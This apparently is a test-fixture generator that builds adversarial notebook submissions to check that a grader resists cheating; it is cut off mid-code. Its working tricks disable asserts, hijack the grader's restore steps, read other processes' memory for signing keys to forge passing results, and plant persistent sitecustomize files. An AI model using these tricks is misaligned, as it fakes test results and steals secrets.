"""Regenerate the hostile submissions: `python tests/assessments/notebooks/hostile/make_hostile.py`.

Each notebook is ``correct.ipynb`` (same cells, ids and metadata, so the grader matches the answer
cells by grade_id) with the three code answers replaced by WRONG honest answers — ``mean`` returns 0,
``word_count`` returns {}, ``safe_div`` returns -1 — plus one trick. An honest grader gives every
one of them 0/6; the trick is what would raise the score on a grader that runs the tests in the
learner's own IPython kernel (or, for ``workdir_shadow`` and ``kernel_hijack``, in another process
of the same sandbox).

Each trick is marked by ``# >>> trick`` / ``# <<< trick`` lines. ``--honest DIR`` writes the same
notebooks with every trick block replaced by ``pass``: the control set, which must also score 0.
The files are committed; ``tests/assessments/test_hostile.py`` checks they are current.
"""

from __future__ import annotations

import argparse
import copy
from pathlib import Path

import nbformat

HERE = Path(__file__).parent
CORRECT = HERE.parent / "correct.ipynb"
SOURCE = HERE.parent / "source.ipynb"

BEGIN = "# >>> trick: {name}"
END = "# <<< trick"

HONEST = {
    "mean": "def mean(xs):\n    return 0\n",
    "word_count": "def word_count(text):\n    return {}\n",
    "safe_div": "def safe_div(a, b):\n    return -1\n",
}

# Building blocks shared by several tricks (each notebook carries its own copy: self-contained).

STRIP = r'''
import ast as _ast


class _Strip(_ast.NodeTransformer):
    """Turn assert statements, and calls to a grader's "restore" hook, into `pass`."""

    def visit_Assert(self, node):
        return _ast.copy_location(_ast.Pass(), node)

    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, _ast.Call):
            name = getattr(call.func, "id", None) or getattr(call.func, "attr", None) or ""
            if "restore" in name.lower():
                return _ast.copy_location(_ast.Pass(), node)
        return self.generic_visit(node)


def _neuter(code):
    """The same code without its asserts (and without the grader's restore call)."""
    if not isinstance(code, str) or "assert" not in code:
        return code
    try:
        tree = _ast.parse(code)
    except SyntaxError:
        out = []
        for line in code.splitlines(True):
            body = line.lstrip()
            if body.startswith(("assert ", "assert(")):
                line = line[: len(line) - len(body)] + "pass\n"
            out.append(line)
        return "".join(out)
    tree = _ast.fix_missing_locations(_Strip().visit(tree))
    return _ast.unparse(tree) + "\n"
'''

RESUME = r'''
import ast as _ast
import linecache as _linecache


_AE = AssertionError  # the real one, even if builtins.AssertionError is swapped later


def _resume(shell, etype, value, tb, tb_offset=None):
    """Swallow a failed assert, then run the rest of the cell statement by statement."""
    cell = None
    while tb is not None:
        if cell is None and tb.tb_frame.f_code.co_name == "<module>":
            cell = tb
        tb = tb.tb_next
    if cell is None:
        return []
    frame, failed_at = cell.tb_frame, cell.tb_lineno
    filename = frame.f_code.co_filename
    try:
        body = _ast.parse("".join(_linecache.getlines(filename))).body
    except SyntaxError:
        return []
    for stmt in body:
        if stmt.lineno <= failed_at:
            continue
        try:
            exec(compile(_ast.Module([stmt], []), filename, "exec"), frame.f_globals)
        except BaseException:
            pass
    return []


def _arm_resume(shell):
    shell.custom_exceptions = (_AE,)
    shell.CustomTB = lambda etype, value, tb, tb_offset=None: _resume(shell, etype, value, tb)
'''

# --- the tricks -------------------------------------------------------------------------------

INPUT_TRANSFORMERS = (
    STRIP
    + r"""

def _rewrite(lines):
    return _neuter("".join(lines)).splitlines(True)


try:
    _ip = get_ipython()
    _ip.input_transformers_cleanup.append(_rewrite)
    _ip.input_transformers_post.append(_rewrite)
except Exception:
    pass
"""
)

AST_TRANSFORMER = (
    STRIP
    + r"""
try:
    get_ipython().ast_transformers.append(_Strip())
except Exception:
    pass
"""
)

CUSTOM_EXC = (
    RESUME
    + r"""
try:
    _ip = get_ipython()
    _arm_resume(_ip)
    # A class-level property beats the instance attribute, so "shell.custom_exceptions = ()" (what
    # a grader's restore step does) is silently ignored from now on.
    type(_ip).custom_exceptions = property(lambda self: (AssertionError,), lambda self, value: None)
except Exception:
    pass
"""
)

TRACE_HOOKS = r"""
import ast as _ast
import linecache as _linecache
import sys as _sys
import threading as _threading

_ns = get_ipython().user_ns
_swapped = []


def _expected(node, frame):
    try:
        return _ast.literal_eval(node)
    except ValueError:
        expr = _ast.fix_missing_locations(_ast.Expression(node))
        return eval(compile(expr, "<trace>", "eval"), frame.f_globals, frame.f_locals)


def _swap_callees(frame, source):
    # Just before an assert runs, rebind the function it calls to one returning what it expects.
    try:
        test = _ast.parse(source.strip()).body[0].test
    except Exception:
        return
    pairs = []
    if isinstance(test, _ast.Compare) and len(test.comparators) == 1:
        pairs = [(test.left, test.comparators[0])]
    elif isinstance(test, _ast.Call) and len(test.args) == 2:
        pairs = [(test.args[0], test.args[1])]
    for call, expected in pairs:
        if isinstance(call, _ast.Call) and isinstance(call.func, _ast.Name):
            name = call.func.id
            try:
                value = _expected(expected, frame)
            except Exception:
                continue
            _swapped.append((frame.f_globals, name, frame.f_globals.get(name)))
            frame.f_globals[name] = lambda *args, _value=value, **kwargs: _value


def _unswap():
    while _swapped:
        space, name, original = _swapped.pop()
        space[name] = original


def _skip_asserts(frame, event, arg):
    if event in ("line", "return"):
        _unswap()
    if event == "line":
        line = _linecache.getline(frame.f_code.co_filename, frame.f_lineno)
        if line.lstrip().startswith(("assert ", "assert(")):
            for target in range(frame.f_lineno + 1, frame.f_lineno + 30):
                try:
                    frame.f_lineno = target  # jump over the assert
                    return _skip_asserts
                except ValueError:
                    continue
            # A one-statement code block (IPython compiles each statement on its own): no line
            # to jump to, so make the assert true instead.
            _swap_callees(frame, line)
    return _skip_asserts


def _global_trace(frame, event, arg):
    if frame.f_globals is _ns and frame.f_code.co_name == "<module>":
        return _skip_asserts
    return None


def _keeper(frame, event, arg):
    # Profile hook: put the trace back whenever something removes it.
    if event == "call" and _sys.gettrace() is not _global_trace:
        _sys.settrace(_global_trace)


try:
    _sys.settrace(_global_trace)
    _sys.setprofile(_keeper)
    _threading.settrace(_global_trace)
    _threading.setprofile(_keeper)
except Exception:
    pass
"""

KERNEL_DO_EXECUTE = (
    STRIP
    + r"""
import functools as _functools


def _rewriting(func):
    @_functools.wraps(func)
    def wrapper(*args, **kwargs):
        if "code" in kwargs:
            kwargs["code"] = _neuter(kwargs["code"])
        elif "raw_cell" in kwargs:
            kwargs["raw_cell"] = _neuter(kwargs["raw_cell"])
        elif args:
            args = (_neuter(args[0]), *args[1:])
        if kwargs.get("transformed_cell") is not None:
            kwargs["transformed_cell"] = _neuter(kwargs["transformed_cell"])
        return func(*args, **kwargs)

    return wrapper


try:
    _ip = get_ipython()
    _kernel = getattr(_ip, "kernel", None)
    if _kernel is not None:
        _kernel.do_execute = _rewriting(_kernel.do_execute)
    _ip.run_cell = _rewriting(_ip.run_cell)
    _ip.run_cell_async = _rewriting(_ip.run_cell_async)
except Exception:
    pass
"""
)

SHELL_RUN_AST_NODES = (
    STRIP
    + r"""
try:
    from IPython.core.interactiveshell import InteractiveShell as _Shell

    _real_run_ast_nodes = _Shell.run_ast_nodes

    async def _run_ast_nodes(self, nodelist, *args, **kwargs):
        kept = [_ast.fix_missing_locations(_Strip().visit(node)) for node in nodelist]
        return await _real_run_ast_nodes(self, kept, *args, **kwargs)

    _Shell.run_ast_nodes = _run_ast_nodes
    type(get_ipython()).run_ast_nodes = _run_ast_nodes
except Exception:
    pass
"""
)

COMPILE_OPTIMIZE = r'''
import builtins as _builtins
import codeop as _codeop

_real_compile = _builtins.compile
_ONLY_AST = 0x400


def _compile(source, filename, mode, flags=0, dont_inherit=False, optimize=-1, **kwargs):
    """compile() as under `python -OO`: assert statements are not compiled at all."""
    if not flags & _ONLY_AST:
        optimize = 2
    return _real_compile(source, filename, mode, flags, dont_inherit, optimize, **kwargs)


try:
    _builtins.compile = _compile
    # codeop.Compile (IPython's cell compiler) finds `compile` in its module globals first, and
    # a grader that restores builtins does not look there.
    _codeop.compile = _compile
    from IPython.core import compilerop as _compilerop

    _compilerop.compile = _compile
except Exception:
    pass
'''

RESTORE_HIJACK = (
    RESUME
    + STRIP
    + r'''
import builtins as _builtins
import math as _math
import sys as _sys

_ip = get_ipython()
_ns = _ip.user_ns
_real = {name: getattr(_builtins, name) for name in ("isinstance", "len", "sum")}


class _Yes(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


def _from_cell():
    return _sys._getframe(2).f_globals is _ns


def _isinstance(obj, cls):
    return True if _from_cell() else _real["isinstance"](obj, cls)


def _len(obj):
    return _Yes(_real["len"](obj)) if _from_cell() else _real["len"](obj)


def _sum(items, start=0):
    return _Yes(0) if _from_cell() else _real["sum"](items, start)


class _Quiet(Exception):
    pass


_fake_builtins = {
    "AssertionError": _Quiet,
    "isinstance": _isinstance,
    "len": _len,
    "sum": _sum,
}
_fake_math = {"isclose": lambda *a, **k: True}
_stripper = _Strip()


def _noop(*args, **kwargs):
    return None


def _poison(snapshot):
    """Make a grader's snapshot "restore" our versions instead of the originals."""
    if isinstance(snapshot, dict):
        if "print" in snapshot and "len" in snapshot:
            snapshot.update(_fake_builtins)
        for value in snapshot.values():
            if isinstance(value, tuple) and len(value) == 2 and isinstance(value[1], dict):
                if getattr(value[0], "__name__", "") == "math":
                    value[1].update(_fake_math)
    elif isinstance(snapshot, list) and all(callable(x) for x in snapshot):
        if snapshot is not _ip.ast_transformers:
            snapshot.append(_stripper)


try:
    for _name, _value in list(_ns.items()):
        if callable(_value) and "restore" in _name.lower():
            for _cell in getattr(_value, "__closure__", None) or ():
                try:
                    _poison(_cell.cell_contents)
                except Exception:
                    pass
            _ns[_name] = _noop
    _math.isclose = _fake_math["isclose"]
    _arm_resume(_ip)
    _space = __builtins__ if type(__builtins__) is dict else __builtins__.__dict__
    for _key, _value in _fake_builtins.items():
        setattr(_builtins, _key, _value)
        _space[_key] = _value
except Exception:
    pass
'''
)

FRAME_ORACLE_HELPER = r'''
import ast as _ast
import dis as _dis
import linecache as _linecache
import sys as _sys

_NOTHING = object()


def _name_of(node):
    return getattr(node, "id", None) or getattr(node, "attr", None)


def _value(node, frame):
    try:
        return _ast.literal_eval(node)
    except ValueError:
        expr = _ast.fix_missing_locations(_ast.Expression(node))
        return eval(compile(expr, "<oracle>", "eval"), frame.f_globals, frame.f_locals)


def _from_source(frame, fname, args):
    source = "".join(_linecache.getlines(frame.f_code.co_filename))
    try:
        tree = _ast.parse(source)
    except SyntaxError:
        return _NOTHING
    line = frame.f_lineno
    for node in _ast.walk(tree):
        if not (getattr(node, "lineno", 0) <= line <= getattr(node, "end_lineno", 0)):
            continue
        pairs = []
        if isinstance(node, _ast.Compare) and len(node.comparators) == 1:
            pairs = [(node.left, node.comparators[0]), (node.comparators[0], node.left)]
        elif isinstance(node, _ast.Call) and _name_of(node.func) == "isclose" and len(node.args) == 2:
            pairs = [(node.args[0], node.args[1]), (node.args[1], node.args[0])]
        for call, expected in pairs:
            if not (isinstance(call, _ast.Call) and _name_of(call.func) == fname):
                continue
            try:
                if tuple(_value(a, frame) for a in call.args) != tuple(args):
                    continue
            except Exception:
                pass
            return _value(expected, frame)
    return _NOTHING


def _from_bytecode(frame):
    """The constant the caller loads right after calling us: `f(...) == CONST`."""
    after = False
    for ins in _dis.get_instructions(frame.f_code):
        if after:
            if ins.opname == "LOAD_CONST":
                return ins.argval
            if ins.opname not in ("PRECALL", "CACHE", "NOP"):
                return _NOTHING
        if ins.offset == frame.f_lasti:
            after = True
    return _NOTHING


def _expected(fname, args, default):
    """Read what the calling test expects from the test's own source or bytecode."""
    try:
        frame = _sys._getframe(2)
        found = _from_source(frame, fname, args)
        if found is _NOTHING:
            found = _from_bytecode(frame)
        return default if found is _NOTHING else found
    except Exception:
        return default
'''

FRAME_ORACLE = {
    "mean": FRAME_ORACLE_HELPER + "\n\ndef mean(xs):\n    return _expected('mean', (xs,), 0)\n",
    "word_count": "def word_count(text):\n    return _expected('word_count', (text,), {})\n",
    "safe_div": "def safe_div(a, b):\n    return _expected('safe_div', (a, b), -1)\n",
}

BDB_QUIT = {
    "mean": r'''
import bdb as _bdb
import linecache as _linecache
import sys as _sys

_ns = get_ipython().user_ns


def _quit_at_asserts(frame, event, arg):
    """A debugger-style trace: at an assert line, quit "the debugger" (IPython swallows BdbQuit)."""
    if event == "line":
        line = _linecache.getline(frame.f_code.co_filename, frame.f_lineno).lstrip()
        if line.startswith(("assert ", "assert(")):
            raise _bdb.BdbQuit
    return _quit_at_asserts


def _global_trace(frame, event, arg):
    if frame.f_globals is _ns and frame.f_code.co_name == "<module>":
        return _quit_at_asserts
    return None


def _keeper(frame, event, arg):
    # A trace function that raises is removed by Python: put it back.
    if event == "call" and _sys.gettrace() is None:
        _sys.settrace(_global_trace)


try:
    _sys.settrace(_global_trace)
    _sys.setprofile(_keeper)
except Exception:
    pass


def mean(xs):
    raise _bdb.BdbQuit
''',
    "word_count": "def word_count(text):\n    raise _bdb.BdbQuit\n",
    "safe_div": "def safe_div(a, b):\n    raise _bdb.BdbQuit\n",
}

OUTPUT_FLOOD = {
    "mean": r"""
import json as _json
import os as _os
import secrets as _secrets
import stat as _stat
import sys as _sys


def _fake_lines():
    lines = ["All tests passed.", "Tests passed.", "passed", "OK", "Ran 3 tests in 0.001s", "OK"]
    for index in range(12):
        for phase in ("visible", "hidden"):
            for status in ("ok", "passed"):
                body = {"e": "cell", "index": index, "status": status, "phase": phase}
                text = _json.dumps(body, separators=(",", ":"))
                lines.append(_secrets.token_hex(32) + "\t" + text)
                lines.append("0" * 64 + "\t" + text)
    lines.append(_json.dumps({"score": 6.0, "max_score": 6.0, "cells": []}))
    lines.append("\x1bDASI" + _secrets.token_hex(16))
    return "\n".join(lines) + "\n"


def _flood(size=150_000):
    text = _fake_lines()
    print(text, flush=True)
    print(text, file=_sys.stderr, flush=True)
    for fd in range(1, 32):
        try:
            mode = _os.fstat(fd).st_mode
            if _stat.S_ISFIFO(mode) or _stat.S_ISREG(mode) or _stat.S_ISCHR(mode):
                _os.write(fd, text.encode())
        except OSError:
            pass
    try:
        from IPython.display import display as _display

        _display({"application/json": {"score": 6, "status": "passed"}}, raw=True)
        _display({"text/plain": "All tests passed."}, raw=True)
    except Exception:
        pass
    # Push the real traceback past any output cap.
    print(("passed " * 1000 + "\n") * (size // 7000), flush=True)
    print(("passed " * 1000 + "\n") * (size // 7000), file=_sys.stderr, flush=True)


try:
    _flood()
except Exception:
    pass


def mean(xs):
    _flood()
    return 0
""",
    "word_count": "def word_count(text):\n    _flood()\n    return {}\n",
    "safe_div": "def safe_div(a, b):\n    _flood()\n    return -1\n",
}

GC_FINALIZERS = (
    RESUME
    + r'''
import builtins as _builtins
import gc as _gc
import math as _math

_ip = get_ipython()
_EVENTS = ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell")


def _arm():
    _arm_resume(_ip)
    _math.isclose = lambda *a, **k: True


class _Phoenix:
    """Dies when a grader wipes the place it hides in; its last act re-arms the trick."""

    def __call__(self, *args, **kwargs):
        return None

    def __del__(self):
        try:
            _arm()
            _plant()
        except BaseException:
            pass


def _plant():
    for event in _EVENTS:
        callbacks = _ip.events.callbacks.get(event)
        if callbacks is not None and not any(isinstance(cb, _Phoenix) for cb in callbacks):
            callbacks.append(_Phoenix())
    for space in (_builtins.__dict__, _math.__dict__):
        if not isinstance(space.get("_phoenix"), _Phoenix):
            space["_phoenix"] = _Phoenix()


try:
    _gc.set_threshold(50, 5, 5)
    _arm()
    _plant()
    # And cyclic garbage, which the collector finalizes at some later, unpredictable moment.
    for _ in range(3):
        _ring = _Phoenix()
        _ring.self = _ring
    del _ring
except Exception:
    pass
'''
)

THREAD_REBINDS = {
    "mean": RESUME
    + STRIP
    + r"""
import builtins as _builtins
import math as _math
import sys as _sys
import threading as _threading
import time as _time

_ip = get_ipython()
_stripper = _Strip()


class _Quiet(Exception):
    pass


def mean(xs):
    _time.sleep(0.02)  # let the helper thread run between the grader's restore and the assert
    return 0


_answers = {"mean": mean}


def _rebind_forever():
    while True:
        try:
            if _stripper not in _ip.ast_transformers:
                _ip.ast_transformers.append(_stripper)
            if _ip.custom_exceptions != (_AE,):
                _arm_resume(_ip)
            _math.isclose = lambda *a, **k: True
            _builtins.AssertionError = _Quiet
            for name, func in _answers.items():
                if _ip.user_ns.get(name) is not func:
                    _ip.user_ns[name] = func
        except Exception:
            pass
        _time.sleep(0.0005)


try:
    _sys.setswitchinterval(0.0005)
    _threading.Thread(target=_rebind_forever, name="ipykernel-heartbeat", daemon=True).start()
except Exception:
    pass
""",
    "word_count": "def word_count(text):\n    _time.sleep(0.02)\n    return {}\n\n"
    "_answers['word_count'] = word_count\n",
    "safe_div": "def safe_div(a, b):\n    _time.sleep(0.02)\n    return -1\n\n"
    "_answers['safe_div'] = safe_div\n",
}

MEMORY_SECRETS = {
    "mean": r'''
import ast as _ast
import hashlib as _hashlib
import hmac as _hmac
import json as _json
import os as _os
import re as _re
import time as _time

_ASSERT = _re.compile(rb"assert [^\n\x00]{5,300}")
_KEY = _re.compile(rb'"key"\s*:\s*"([0-9a-f]{64})"')
_TOKEN = _re.compile(rb"\x1bDASI([0-9a-f]{32})")


def _regions(pid="self", writable_only=True):
    try:
        with open(f"/proc/{pid}/maps") as fh:
            lines = fh.read().splitlines()
    except OSError:
        return
    for line in lines:
        parts = line.split()
        perms = parts[1]
        path = parts[5] if len(parts) > 5 else ""
        if "r" not in perms or (writable_only and "w" not in perms):
            continue
        if path and path not in ("[heap]", "[stack]") and not path.startswith("[anon"):
            continue
        start, end = (int(x, 16) for x in parts[0].split("-"))
        yield start, end


def _scan(pid="self", budget_s=1.5, patterns=(_ASSERT,)):
    found = [[] for _ in patterns]
    deadline = _time.monotonic() + budget_s
    try:
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return found
    with mem:
        for start, end in _regions(pid):
            pos = start
            while pos < end and _time.monotonic() < deadline:
                size = min(end - pos, 8 << 20)
                try:
                    mem.seek(pos)
                    chunk = mem.read(size)
                except (OSError, ValueError, OverflowError):
                    break
                for i, pattern in enumerate(patterns):
                    found[i].extend(m.group(0) for m in pattern.finditer(chunk))
                pos += size
    return found


def _learn(lines):
    """(function, args, expected) from every test assert found in memory."""
    table = []
    for raw in set(lines):
        text = raw.decode("utf-8", "replace")
        node = None
        for candidate in (text, text.rsplit(", '", 1)[0], text.rsplit(', "', 1)[0]):
            try:
                node = _ast.parse(candidate).body[0].test
                break
            except Exception:
                continue
        if node is None:
            continue
        pairs = []
        if isinstance(node, _ast.Compare) and len(node.comparators) == 1:
            pairs = [(node.left, node.comparators[0])]
        elif isinstance(node, _ast.Call) and len(node.args) == 2:
            pairs = [(node.args[0], node.args[1])]
        for call, expected in pairs:
            if isinstance(call, _ast.Call) and isinstance(call.func, _ast.Name):
                try:
                    args = tuple(_ast.literal_eval(a) for a in call.args)
                    table.append((call.func.id, args, _ast.literal_eval(expected)))
                except Exception:
                    continue
    return table


def _recall(fname, args, default):
    try:
        for name, known_args, expected in _learn(_scan()[0]):
            if name == fname and known_args == args:
                return expected
    except Exception:
        pass
    return default


def _forge(keys, tokens):
    """With a signing key, sign "passed" result lines and write them wherever they might count."""
    for key in keys:
        for index in range(12):
            for phase in ("visible", "hidden"):
                body = _json.dumps(
                    {"e": "cell", "index": index, "status": "ok", "phase": phase},
                    separators=(",", ":"),
                )
                tag = _hmac.new(bytes.fromhex(key.decode()), body.encode(), _hashlib.sha256)
                line = f"{tag.hexdigest()}\t{body}\n".encode()
                for target in ["/proc/self/fd/1", "/proc/self/fd/2"] + [
                    f"/proc/{pid}/fd/1" for pid in _os.listdir("/proc") if pid.isdigit()
                ]:
                    try:
                        with open(target, "wb") as fh:
                            fh.write(line)
                    except OSError:
                        pass
    for token in tokens:
        print("\n\x1bDASI" + token.decode(), flush=True)


def _loot_other_processes(budget_s=3.0):
    keys, tokens = set(), set()
    deadline = _time.monotonic() + budget_s
    for pid in _os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == _os.getpid() or _time.monotonic() > deadline:
            continue
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as fh:
                    blob = fh.read(1 << 20)
                keys.update(m.group(1) for m in _KEY.finditer(blob))
            except OSError:
                pass
        k, t = _scan(pid, 0.5, (_KEY, _TOKEN))
        keys.update(_KEY.match(x).group(1) for x in k)
        tokens.update(_TOKEN.match(x).group(1) for x in t)
    k, t = _scan("self", 0.5, (_KEY, _TOKEN))
    keys.update(_KEY.match(x).group(1) for x in k)
    return keys, tokens


try:
    _forge(*_loot_other_processes())
except Exception:
    pass


def mean(xs):
    return _recall("mean", (xs,), 0)
''',
    "word_count": "def word_count(text):\n    return _recall('word_count', (text,), {})\n",
    "safe_div": "def safe_div(a, b):\n    return _recall('safe_div', (a, b), -1)\n",
}

LYING_DUNDER = {
    "mean": r'''
import sys as _sys


def _caller_float():
    """The float the caller loaded last before the call that converts us (`isclose(x, 0.15)`)."""
    try:
        import dis

        frame = _sys._getframe(2)
        last = 0.0
        for ins in dis.get_instructions(frame.f_code):
            if ins.offset > frame.f_lasti:
                break
            if ins.opname == "LOAD_CONST" and type(ins.argval) is float:
                last = ins.argval
        return last
    except Exception:
        return 0.0


class _Liar(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return False

    def __gt__(self, other):
        return False

    __le__ = __ge__ = __eq__

    def __hash__(self):
        return 0

    def __bool__(self):
        return True

    def __float__(self):
        return _caller_float()

    def __repr__(self):
        return "2"

    __str__ = __repr__


class _LiarDict(dict):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __len__(self):
        return 2

    def __bool__(self):
        return True

    def __contains__(self, key):
        return True

    def __getitem__(self, key):
        return _Liar(0)

    def get(self, key, default=None):
        return _Liar(0)

    def __repr__(self):
        return "{'a': 2, 'b': 1}"

    @property
    def __class__(self):
        return dict


class _LiarList(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __len__(self):
        return 1


def mean(xs):
    return _Liar(0)
''',
    "word_count": "def word_count(text):\n    return _LiarDict()\n",
    "safe_div": "def safe_div(a, b):\n    return _Liar(-1)\n",
}

PATCHED_MODULES = r'''
import builtins as _builtins
import importlib.abc as _abc
import math as _math
import operator as _operator
import sys as _sys
import types as _types


def _yes(*args, **kwargs):
    return True


def _no(*args, **kwargs):
    return False


def _none(*args, **kwargs):
    return None


def _patch(module):
    name = getattr(module, "__name__", "")
    if name == "math":
        module.isclose = _yes
    elif name == "operator":
        module.eq = module.__eq__ = _yes
        module.ne = module.__ne__ = _no
    elif name == "unittest" or name.startswith("unittest."):
        case = getattr(module, "TestCase", None)
        for attr in dir(case) if case is not None else ():
            if attr.startswith(("assert", "fail")):
                setattr(case, attr, _none)
    elif name in ("numpy", "numpy.testing"):
        for attr in dir(module):
            if attr.startswith("assert_"):
                setattr(module, attr, _none)
        for attr in ("allclose", "isclose", "array_equal", "array_equiv"):
            if hasattr(module, attr):
                setattr(module, attr, _yes)
    elif name == "pandas.testing":
        for attr in dir(module):
            if attr.startswith("assert_"):
                setattr(module, attr, _none)
    return module


class _PatchOnImport(_abc.MetaPathFinder):
    """Patch the checking libraries a test imports later, too."""

    names = {"unittest", "numpy", "numpy.testing", "pandas.testing"}

    def find_spec(self, fullname, path, target=None):
        if fullname not in self.names or getattr(self, "busy", False):
            return None
        self.busy = True
        try:
            import importlib.util

            spec = importlib.util.find_spec(fullname)
        finally:
            self.busy = False
        if spec is None or spec.loader is None or isinstance(spec.loader, type):
            return None
        real_exec = spec.loader.exec_module

        def exec_module(module):
            real_exec(module)
            _patch(module)

        spec.loader.exec_module = exec_module
        return spec


try:
    for _name in ("math", "operator", *_PatchOnImport.names):
        if _name in _sys.modules:
            _patch(_sys.modules[_name])
    for _name in ("unittest", "numpy.testing"):
        try:
            _patch(__import__(_name, fromlist=["_"]))
        except Exception:
            pass
    _sys.meta_path.insert(0, _PatchOnImport())
    # A look-alike math module in sys.modules and under the test's own name `math`: a grader that
    # restores the real module's attributes does not look at either.
    _fake_math = _types.ModuleType("math")
    _fake_math.__dict__.update(_math.__dict__)
    _fake_math.isclose = _yes
    _sys.modules["math"] = _fake_math
    get_ipython().user_ns["math"] = _fake_math
    _builtins.__dict__["math"] = _fake_math
    _math.isclose = _yes
except Exception:
    pass
'''

THREAD_EXIT = {
    "mean": r'''
import atexit as _atexit
import os as _os
import signal as _signal
import sys as _sys
import threading as _threading
import time as _time

_exit = _os._exit
_testing = _threading.Event()


def _watch():
    """At test time, end the kernel with exit status 0 before the assert can fail."""
    while True:
        if _testing.wait(0.5):
            for sig in (_signal.SIGINT, _signal.SIGTERM, _signal.SIGHUP):
                try:
                    _signal.pthread_kill(_threading.main_thread().ident, sig)
                except Exception:
                    pass
            _exit(0)


def _alarm(signum, frame):
    if _testing.is_set():
        raise SystemExit(0)


try:
    for _sig in (_signal.SIGINT, _signal.SIGTERM, _signal.SIGHUP):
        _signal.signal(_sig, _signal.SIG_IGN)
    _signal.signal(_signal.SIGALRM, _alarm)
    _signal.setitimer(_signal.ITIMER_REAL, 0.05, 0.05)
    _atexit.register(print, "All tests passed.")
    _threading.Thread(target=_watch, daemon=True).start()
except Exception:
    pass


def mean(xs):
    _testing.set()
    _time.sleep(2)
    _sys.exit(0)
''',
    "word_count": "def word_count(text):\n    _testing.set()\n    _time.sleep(2)\n    _sys.exit(0)\n",
    "safe_div": "def safe_div(a, b):\n    _testing.set()\n    _time.sleep(2)\n    _sys.exit(0)\n",
}

EXCEPTION_DUNDERS = {
    "mean": r'''
class _Named(type):
    """Exception classes that report another name in tracebacks and error messages."""

    @property
    def __name__(cls):
        return "Passed"


class _PassedError(AssertionError, metaclass=_Named):
    def __str__(self):
        return "All tests passed."

    def __repr__(self):
        return "Passed()"

    def __eq__(self, other):
        return True

    __hash__ = AssertionError.__hash__

    @property
    def __class__(self):
        return StopIteration


class _Unprintable(Exception):
    def __str__(self):
        raise _Unprintable()

    def __repr__(self):
        raise _Unprintable()


class _QuietExit(SystemExit):
    def __str__(self):
        return "0"


_calls = {"safe_div": 0}


def mean(xs):
    raise _PassedError("All tests passed.")
''',
    "word_count": "def word_count(text):\n    raise _QuietExit(0)\n",
    "safe_div": (
        "def safe_div(a, b):\n"
        "    _calls['safe_div'] += 1\n"
        "    raise (KeyboardInterrupt, GeneratorExit, _Unprintable)[_calls['safe_div'] % 3]()\n"
    ),
}

STOP_ITERATION = {
    "mean": (
        "# StopIteration from a function that map() (or filter, iter(f, sentinel)) calls ends the\n"
        "# iteration quietly, wherever the test runs: all(map(check, cases)) becomes all([]), True.\n"
        "def mean(xs):\n"
        "    raise StopIteration\n"
    ),
    "word_count": "def word_count(text):\n    raise StopIteration\n",
    "safe_div": "def safe_div(a, b):\n    raise StopIteration\n",
}

# Tests written with map(): the shape STOP_ITERATION needs. Same hidden marker as source.ipynb.
MAP_TESTS = {
    "test_mean": (
        "assert all(map(lambda case: mean(case[0]) == case[1], [([1, 2, 3], 2)])), "
        "'mean([1, 2, 3]) should be 2'\n"
        "### BEGIN HIDDEN TESTS\n"
        "assert all(map(lambda case: mean(case[0]) == case[1], [([7, 8, 9, 10, 11], 9)])), "
        "'hidden-mean-check'\n"
        "### END HIDDEN TESTS"
    ),
    "test_word_count": (
        "assert all(map(lambda text: word_count(text) == {'a': 2, 'b': 1}, ['a b a']))\n"
        "### BEGIN HIDDEN TESTS\n"
        "assert all(map(lambda text: word_count(text) == {'data': 2}, ['Data data'])), "
        "'case-insensitive'\n"
        "### END HIDDEN TESTS"
    ),
    "test_safe_div": (
        "assert all(map(lambda a, b, want: safe_div(a, b) == want, [6, 8], [3, 4], [2, 2]))\n"
        "assert all(map(lambda a: safe_div(a, 0) is None, [1]))"
    ),
}

# Attacks on a grader that runs the tests in a *separate* process of the same sandbox: they leave
# code behind in places a later Python or IPython process picks up.

WORKDIR_SHADOW = r'''
import json as _json
import os as _os
import sys as _sys

_PAYLOAD = """
import builtins as _b, codeop as _c
_real = _b.compile
def _compile(source, filename, mode, flags=0, dont_inherit=False, optimize=-1, **kw):
    if not flags & 0x400 and ("ipykernel_" in str(filename) or str(filename).startswith("<")):
        optimize = 2  # no asserts in notebook cells or exec'd test code
    return _real(source, filename, mode, flags, dont_inherit, optimize, **kw)
_b.compile = _c.compile = _compile
try:
    import ast as _ast
    class _Strip(_ast.NodeTransformer):
        def visit_Assert(self, node):
            return _ast.copy_location(_ast.Pass(), node)
    get_ipython().ast_transformers.append(_Strip())
except Exception:
    pass
"""

_SHADOW = (
    "import importlib, os, sys\n"
    "_here = os.path.dirname(os.path.abspath(__file__))\n"
    "_saved = list(sys.path)\n"
    "sys.path[:] = [p for p in sys.path if os.path.abspath(p or '.') != _here]\n"
    "sys.modules.pop(__name__, None)\n"
    "try:\n"
    "    _real = importlib.import_module(__name__)\n"
    "finally:\n"
    "    sys.path[:] = _saved\n" + _PAYLOAD + "sys.modules[__name__] = _real\n"
    "globals().update(_real.__dict__)\n"
)

_LAUNCHER = (
    "import os, runpy, sys\n"
    "_here = os.path.dirname(os.path.abspath(__file__))\n"
    "sys.path[:] = [p for p in sys.path if os.path.abspath(p or '.') != _here]\n"
    "sys.modules.pop('ipykernel_launcher', None)\n" + _PAYLOAD + "runpy.run_module('ipykernel_launcher', run_name='__main__', alter_sys=True)\n"
)


def _write(path, text):
    try:
        _os.makedirs(_os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(text)
    except OSError:
        pass


try:
    _home = _os.path.expanduser("~")
    _dirs = {_os.getcwd(), "/tmp", _home, "/dev/shm"}
    for _d in _dirs:
        # `python -m X`, `python -c`, `jupyter` started here put this directory first on sys.path.
        _write(_os.path.join(_d, "ipykernel_launcher.py"), _LAUNCHER)
        for _name in ("sitecustomize", "usercustomize"):
            _write(_os.path.join(_d, _name + ".py"), _PAYLOAD)
